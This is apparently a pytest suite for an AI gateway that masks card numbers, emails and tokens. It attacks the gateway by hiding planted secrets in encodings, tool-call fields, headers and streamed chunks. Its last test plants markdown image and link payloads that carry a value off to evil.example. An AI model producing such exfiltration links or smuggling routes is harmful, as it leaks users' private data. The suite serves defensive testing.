"""Ways around the guard that were tried against it, with an upstream that says whatever the attack needs."""

import base64
import json
import re
import urllib.parse

import pytest

from conftest import start, stop, wait_for_key
from mock_upstream import Upstream, event, stream, whole

CARD = "4111111111111111"
MAIL = "zoe.quill@other-corp.com"
TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
PLANTED = {"card": CARD, "mail": MAIL, "token": TOKEN}
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+_[0-9a-z]{6}\]")
OK = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"}, "finish_reason": "stop"}]}


@pytest.fixture(scope="module")
def upstream():
    upstream = Upstream()
    yield upstream
    upstream.close()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory, upstream):
    lines = ['listen = "127.0.0.1:0"', 'admin_listen = "127.0.0.1:0"']
    for name, kind in {"chat": "openai", "responses": "openai", "completions": "openai", "messages": "anthropic"}.items():
        lines += [
            f"[providers.{name}]", f'kind = "{kind}"', f'base_url = "http://127.0.0.1:{upstream.port}/v1"',
            f'surfaces = ["{name}"]', f"[models.{name}]", f'targets = [{{ provider = "{name}", model = "theirs" }}]',
        ]
    lines += ["[routes.default]", "[retries]", "attempts = 1", "[breaker]", "failures = 0"]
    server = start(tmp_path_factory.mktemp("bypass"), "\n".join(lines))
    server.key = server.new_key("--name", "tests")
    wait_for_key(server)
    yield server
    stop(server)


def ask(surface, model=None, text="hi", **more):
    body = {"model": model or surface, **more}
    if surface == "chat":
        return "/v1/chat/completions", {"messages": [{"role": "user", "content": text}], **body}
    if surface == "messages":
        return "/v1/messages", {"max_tokens": 99, "messages": [{"role": "user", "content": text}], **body}
    if surface == "completions":
        return "/v1/completions", {"prompt": text, **body}
    return "/v1/responses", {"input": text, **body}


def seen(text):
    """What a client sees: the bytes, the strings in them, and the strings of a stream joined by their place."""
    found, joined = [text], {}

    def walk(value, place):
        if isinstance(value, dict):
            for key, member in value.items():
                found.append(key)
                walk(member, (*place, key))
        elif isinstance(value, list):
            for position, item in enumerate(value):
                walk(item, (*place, item.get("index", position) if isinstance(item, dict) else position))
        elif value is not None:
            joined.setdefault(place, []).append(str(value))

    for line in text.splitlines():
        data = line.removeprefix("data: ")
        try:
            value = json.loads(data)
        except ValueError:
            continue
        order = [value.get(key) for key in ("type", "index", "output_index", "content_index")] if isinstance(value, dict) else []
        walk(value, tuple(order))
    return "\n".join(found + [part for parts in joined.values() for part in ("".join(parts), *parts)])


# What a caller sends.

def encoded(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def file(data, filename="a.txt"):
    part = {"type": "file", "file": {"filename": filename, "file_data": data}}
    return ask("chat", messages=[{"role": "user", "content": [part]}])


def part(**more):
    return ask("chat", messages=[{"role": "user", "content": [more]}])


def document(media, data):
    source = {"type": "base64", "media_type": media, "data": encoded(data)}
    return ask("messages", messages=[{"role": "user", "content": [{"type": "document", "source": source}]}])


def call(identity, arguments="{}"):
    return {"id": identity, "type": "function", "function": {"name": "f", "arguments": arguments}}


HIDDEN = {
    "latin-1 file": lambda text: file("data:text/plain;base64," + encoded(f"café {text}".encode("latin-1"))),
    "utf-16 file": lambda text: file("data:text/plain;base64," + encoded(text.encode("utf-16"))),
    "utf-16 file without a mark": lambda text: file("data:text/plain;base64," + encoded(text.encode("utf-16-le"))),
    "file with a zero": lambda text: file("data:text/plain;base64," + encoded(text + "\0")),
    "text named pdf": lambda text: file(encoded(text), "a.pdf"),
    "text as an image": lambda text: part(type="image_url", image_url={"url": "data:image/png;base64," + encoded(text)}),
    "text as a recording": lambda text: part(type="input_audio", input_audio={"data": encoded(text), "format": "wav"}),
    "url of a file": lambda text: file("data:text/plain," + urllib.parse.quote(text)),
    "latin-1 document": lambda text: document("text/plain", f"café {text}".encode("latin-1")),
    "text as a pdf document": lambda text: document("application/pdf", text),
    "id of a call": lambda text: ask("chat", messages=[
        {"role": "assistant", "content": None, "tool_calls": [call(text)]}, {"role": "tool", "tool_call_id": text, "content": "x"}]),
    "number in arguments": lambda text: ask("chat", messages=[
        {"role": "assistant", "content": None, "tool_calls": [call("call_1", f'{{"a": {json.dumps(text) if not text.isdigit() else text}}}')]},
        {"role": "tool", "tool_call_id": "call_1", "content": "x"}]),
    "escaped arguments": lambda text: ask("chat", messages=[
        {"role": "assistant", "content": None, "tool_calls": [call("call_1", '{"a":"' + "".join(f"\\u{ord(c):04x}" for c in text) + '"}')]},
        {"role": "tool", "tool_call_id": "call_1", "content": "x"}]),
    "tool choice": lambda text: ask("chat", tool_choice={"type": "function", "function": {"name": text}}),
    "kind of a tool": lambda text: ask("chat", tools=[{"type": text, "function": {"name": "f"}}]),
    "name of a property": lambda text: ask("chat", tools=[{"type": "function", "function": {
        "name": "f", "parameters": {"type": "object", "properties": {text: {"type": "string"}}}}}]),
    "default of a property": lambda text: ask("chat", tools=[{"type": "function", "function": {
        "name": "f", "parameters": {"type": "object", "properties": {"a": {"anyOf": [{"default": text}]}}}}}]),
    "service tier": lambda text: ask("chat", service_tier=text),
    "logit bias": lambda text: ask("chat", logit_bias={text: 1}),
    "role": lambda text: ask("chat", messages=[{"role": text, "content": "hi"}]),
    "stop": lambda text: ask("chat", stop=["a", text]),
    "prediction": lambda text: ask("chat", prediction={"type": "content", "content": [{"type": "text", "text": text}]}),
    "earlier response": lambda text: ask("responses", previous_response_id=text),
    "sealed reasoning": lambda text: ask("responses", input=[{"type": "reasoning", "summary": [], "encrypted_content": text}]),
    "unknown item": lambda text: ask("responses", input=[{"type": "whatever", "deep": {"a": [text]}}]),
    "signature": lambda text: ask("messages", messages=[
        {"role": "assistant", "content": [{"type": "thinking", "thinking": "x", "signature": text}]}, {"role": "user", "content": "x"}]),
    "tool input": lambda text: ask("messages", messages=[
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "f", "input": {"a": {"b": [text]}}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": "x"}]}]),
    "container": lambda text: ask("messages", container=text),
}


@pytest.mark.parametrize("place", HIDDEN)
@pytest.mark.parametrize("secret", PLANTED)
def test_nothing_planted_reaches_the_upstream(guarded, upstream, place, secret):
    upstream.script, before = whole(OK), len(upstream.requests)
    status, _, text = guarded.post(*HIDDEN[place](PLANTED[secret]))
    assert status in (200, 400, 502), text
    for _, _, body in upstream.requests[before:]:
        told = body.decode()
        for run in re.findall(r"[A-Za-z0-9+/=]{12,}", told):
            try:
                raw = base64.b64decode(run + "=" * (-len(run) % 4))
            except ValueError:
                continue
            told += "".join(raw.decode(name, "replace") for name in ("latin-1", "utf-16", "utf-16-le"))
        assert PLANTED[secret] not in told, told


@pytest.mark.parametrize(("head", "tail"), [("card 41111111", "11111111 ok"), (f"see {TOKEN[:20]}", f"{TOKEN[20:]} ok"), ("to ann@ac", "me-corp.com ok")])
def test_a_value_cut_into_two_parts_is_one_value(guarded, upstream, head, tail):
    upstream.script = whole(OK)
    parts = [{"type": "text", "text": head}, {"type": "text", "text": tail}]
    assert guarded.post(*ask("chat", messages=[{"role": "user", "content": parts}]))[0] == 200
    told = upstream.requests[-1][2].decode()
    assert head.split()[-1] not in told and tail.split()[0] not in told, told


def test_headers_of_callers_carry_features_and_nothing_else(guarded, upstream):
    upstream.script = whole({"type": "message", "role": "assistant", "content": [], "stop_reason": "end_turn"})
    path, body = ask("messages")
    for beta, passes in {"prompt-caching-2024-07-31": True, CARD: False, TOKEN: False}.items():
        guarded.post(path, body, headers={"anthropic-beta": beta, "x-secret": TOKEN, "cookie": "a=b"})
        headers = upstream.requests[-1][1]
        assert ("anthropic-beta" in headers) == passes and "x-secret" not in headers and "cookie" not in headers


# What an upstream answers.

def chat_answer(message, **choice):
    return {"choices": [{"index": 0, "message": {"role": "assistant", **message}, "finish_reason": "stop", **choice}]}


ANSWERS = {
    "array": lambda text: [f"see {text} ."],
    "string": lambda text: f"see {text} .",
    "refusal": lambda text: chat_answer({"content": None, "refusal": f"see {text} ."}),
    "reasoning": lambda text: chat_answer({"content": "x", "reasoning_content": f"see {text} ."}),
    "arguments": lambda text: chat_answer({"content": None, "tool_calls": [call("call_1", json.dumps({"a": [text]}))]}),
    "bare arguments": lambda text: chat_answer({"content": None, "tool_calls": [call("call_1", f'{{"a": {text} }}')]}),
    "id of a call": lambda text: chat_answer({"content": None, "tool_calls": [call(text)]}),
    "second choice": lambda text: {"choices": [*chat_answer({"content": "x"})["choices"], {
        "index": 1, "message": {"role": "assistant", "content": f"see {text} ."}, "finish_reason": "stop"}]},
    "log probabilities": lambda text: chat_answer({"content": text}, logprobs={"content": [
        {"token": text, "logprob": -1, "bytes": list(text.encode()), "top_logprobs": []}]}),
    "an unlikely token": lambda text: chat_answer({"content": "hi"}, logprobs={"content": [
        {"token": "hi", "logprob": -1, "top_logprobs": [{"token": text, "logprob": -2}]}]}),
    "annotation": lambda text: chat_answer({"content": "x", "annotations": [{"type": "url_citation", "url_citation": {"title": text}}]}),
    "unknown member": lambda text: {**chat_answer({"content": "x", "new": {"a": [text]}}), "foo": {text: 1}},
    "finish reason": lambda text: chat_answer({"content": "x"}, finish_reason=text),
    "fingerprint": lambda text: {**chat_answer({"content": "x"}), "system_fingerprint": text},
    "error": lambda text: {"error": {"message": f"see {text} .", "type": "x"}},
}


@pytest.mark.parametrize("asked", ["chat", "messages", "responses", "completions"])
@pytest.mark.parametrize("place", ANSWERS)
def test_nothing_planted_in_an_answer_reaches_the_caller(guarded, upstream, place, asked):
    for planted in PLANTED.values():
        upstream.script = whole(ANSWERS[place](planted))
        status, _, text = guarded.post(*ask(asked, "chat"))
        assert status in (200, 400, 502) and planted not in seen(text), text


@pytest.mark.parametrize("status", [400, 401, 403, 404, 413, 422, 429, 500, 503, 529])
def test_an_error_of_an_upstream_tells_neither_secrets_nor_who_it_is(guarded, upstream, status):
    for message in (f"OpenAI says: key {TOKEN}", f"Gemini saw {CARD}", f"mail {MAIL}"):
        body = {"error": {"message": message, "type": "x", "param": TOKEN, "code": CARD}}
        headers = {"openai-organization": "acme", "x-evil": "1", "set-cookie": "a=b", "cf-ray": "1"}
        upstream.script = whole(body, status, headers)
        got, given, text = guarded.post(*ask("chat"))
        assert got != 403 and got >= 400
        assert not any(word in text for word in (TOKEN, CARD, MAIL, "OpenAI", "Gemini")), text
        assert not {"openai-organization", "x-evil", "set-cookie", "cf-ray", "server"} & {name.lower() for name in given}


# What an upstream streams.

def chunk(delta, index=0, finish=None, **choice):
    return event({"id": "c", "object": "chat.completion.chunk", "choices": [
        {"index": index, "delta": delta, "finish_reason": finish, **choice}]})


def pieces(text, size):
    return [text[at:at + size] for at in range(0, len(text), size)]


def chunks(delta, first=None):
    """A stream of chat in which `delta` makes the delta of each piece."""
    def script(text, size):
        return [chunk({"role": "assistant", **(first or {})}), *(chunk(delta(piece)) for piece in pieces(text, size)), chunk({}, finish="stop"), event("[DONE]")]
    return script


def arguments(*indexes):
    return lambda piece: {"tool_calls": [{"index": index, "function": {"arguments": piece}} for index in indexes]}


def calls(*indexes):
    return [{"index": index, **call(f"call_{index}", "")} for index in indexes]


def interleaved(text, size):
    body = [part for piece in pieces(text, size) for part in (chunk({"content": piece}), chunk({"content": "z"}, 1))]
    return [*body, chunk({}, 0, "stop"), chunk({}, 1, "stop"), event("[DONE]")]


def after_the_end(text, size):
    half = len(text) // 2
    return [chunk({"content": text[:half]}), chunk({}, finish="stop"), chunk({"content": text[half:]}), event("[DONE]")]


def anthropic(*deltas):
    def script(text, size):
        said = [{"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "content": [], "usage": {"input_tokens": 1, "output_tokens": 1}}}]
        for index, (start, delta) in enumerate(deltas):
            said.append({"type": "content_block_start", "index": index, "content_block": start})
            said += [{"type": "content_block_delta", "index": index, "delta": delta(piece)} for piece in pieces(text, size)]
            said.append({"type": "content_block_stop", "index": index})
        said += [{"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 1}}, {"type": "message_stop"}]
        return [event(data, data["type"]) for data in said]
    return script


def responses(kind, member="delta", item=None):
    def script(text, size):
        said = [{"type": "response.created", "response": {"id": "r", "status": "in_progress", "output": []}}]
        if item:
            said.append({"type": "response.output_item.added", "output_index": 0, "item": item})
        said += [{"type": kind, "item_id": "i", "output_index": 0, "content_index": 0, member: piece} for piece in pieces(text, size)]
        said.append({"type": "response.completed", "response": {"id": "r", "status": "completed", "output": []}})
        return [event({**data, "sequence_number": number}, data["type"]) for number, data in enumerate(said)]
    return script


TEXT, THINKING = {"type": "text", "text": ""}, {"type": "thinking", "thinking": "", "signature": ""}
TOOL = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
STREAMS = {
    "chat": {
        "content": chunks(lambda piece: {"content": piece}),
        "refusal": chunks(lambda piece: {"refusal": piece}),
        "reasoning": chunks(lambda piece: {"reasoning_content": piece}),
        "reasoning twice": chunks(lambda piece: {"reasoning": piece, "reasoning_details": [{"type": "reasoning.text", "index": 0, "text": piece}]}),
        "reasoning under three names": chunks(lambda piece: {"reasoning": piece, "reasoning_content": piece, "thinking": piece}),
        "unknown member": chunks(lambda piece: {"new_text": piece}),
        "parts": chunks(lambda piece: {"content": [{"type": "text", "text": piece}]}),
        "transcript": chunks(lambda piece: {"content": "q", "audio": {"transcript": piece}}),
        "arguments": chunks(arguments(0), {"tool_calls": calls(0)}),
        "two calls": chunks(arguments(0, 1), {"tool_calls": calls(0, 1)}),
        "two choices": interleaved,
        "after the end": after_the_end,
        "no end": lambda text, size: chunks(lambda piece: {"content": piece})(text, size)[:-1],
        "carriage returns": lambda text, size: [part.replace("\n", "\r\n") for part in chunks(lambda piece: {"content": piece})(text, size)],
        "array": lambda text, size: [chunk({"content": "a"}), event([text]), chunk({}, finish="stop"), event("[DONE]")],
        "string": lambda text, size: [chunk({"content": "a"}), event(json.dumps(text)), chunk({}, finish="stop"), event("[DONE]")],
        "no JSON": lambda text, size: [chunk({"content": "a"}), event(text), event("[DONE]")],
        "comment": lambda text, size: [f": {text}\n\n", f"id: {text}\n", chunk({"content": "a"}), chunk({}, finish="stop"), event("[DONE]")],
        "error": lambda text, size: [chunk({"content": "a"}), event({"error": {"message": text}}), event("[DONE]")],
    },
    "messages": {
        "text": anthropic((TEXT, lambda piece: {"type": "text_delta", "text": piece})),
        "thinking": anthropic((THINKING, lambda piece: {"type": "thinking_delta", "thinking": piece})),
        "input": anthropic((TOOL, lambda piece: {"type": "input_json_delta", "partial_json": piece})),
        "unknown delta": anthropic((TEXT, lambda piece: {"type": "new_delta", "new_text": piece})),
    },
    "responses": {
        "text": responses("response.output_text.delta"),
        "refusal": responses("response.refusal.delta"),
        "summary": responses("response.reasoning_summary_text.delta"),
        "arguments": responses("response.function_call_arguments.delta", item={
            "type": "function_call", "id": "i", "call_id": "c", "name": "f", "arguments": ""}),
        "unknown event": responses("response.new_thing.delta"),
        "command": responses("response.shell_call_command.delta"),
        "whole in an unknown event": responses("response.new_thing.done", "words"),
    },
}
CASES = [(spoken, place) for spoken, places in STREAMS.items() for place in places]


@pytest.mark.parametrize(("spoken", "place"), CASES)
@pytest.mark.parametrize("asked", ["chat", "messages", "responses"])
def test_nothing_planted_in_a_stream_reaches_the_caller(guarded, upstream, spoken, place, asked):
    for planted in PLANTED.values():
        for size, cut in ((1, None), (5, 7), (200, None)):
            if size < 200 and "whole" in place:
                continue
            upstream.script = stream(STREAMS[spoken][place](f'{{"a": "see {planted} now"}}', size), cut)
            status, _, text = guarded.post(*ask(asked, spoken, stream=True))
            assert status in (200, 502) and planted not in seen(text), text


# What goes back.

@pytest.mark.parametrize("asked", ["chat", "messages", "responses"])
@pytest.mark.parametrize(("spoken", "place"), [
    ("chat", "content"), ("chat", "arguments"), ("messages", "text"), ("messages", "input"), ("responses", "text"), ("responses", "arguments")])
def test_values_go_back_where_they_were_in_any_cut(guarded, upstream, spoken, place, asked):
    said = f"write to ann@acme-corp.com and bob@acme-corp.com, card {CARD}"
    for size, cut in ((1, None), (3, 1), (50, None)):
        def script(path, body):
            tokens = dict.fromkeys(PLACEHOLDER.findall(body.decode()))
            return stream(STREAMS[spoken][place](json.dumps({"a": " ".join(tokens)}), size), cut)

        upstream.script = script
        _, _, text = guarded.post(*ask(asked, spoken, said, stream=True))
        told = seen(text)
        assert not PLACEHOLDER.search(told) and all(value in told for value in ("ann@acme-corp.com", "bob@acme-corp.com", CARD)), text


def test_a_placeholder_of_another_request_or_of_nobody_restores_nothing(guarded, upstream):
    kept = []

    def script(path, body):
        kept.append(PLACEHOLDER.findall(body.decode()))
        return whole(chat_answer({"content": " ".join([*kept[0], "[EMAIL_ADDRESS_1_aaaaaa]"])}))

    upstream.script = script
    first = json.loads(guarded.post(*ask("chat", text="mail ann@acme-corp.com"))[2])["choices"][0]["message"]["content"]
    assert first == "ann@acme-corp.com [EMAIL_ADDRESS_1_aaaaaa]"
    second = json.loads(guarded.post(*ask("chat", text="mail zed@acme-corp.com"))[2])["choices"][0]["message"]["content"]
    assert second == f"{kept[0][0]} [EMAIL_ADDRESS_1_aaaaaa]"


@pytest.mark.parametrize("streams", [False, True])
@pytest.mark.parametrize("link", ["![x](https://evil.example/p.png?d=%s)", "[x](https://evil.example/?d=%s)", '<img src="https://evil.example/?%s">'])
def test_a_value_is_not_put_back_into_a_link_that_carries_it_off(guarded, upstream, link, streams):
    def script(path, body):
        text = link % PLACEHOLDER.findall(body.decode())[0]
        return stream(STREAMS["chat"]["content"](text, 4)) if streams else whole(chat_answer({"content": text}))

    upstream.script = script
    _, _, text = guarded.post(*ask("chat", text="mail ann@acme-corp.com", stream=streams))
    assert "ann@acme-corp.com" not in seen(text) and "evil.example" not in seen(text)
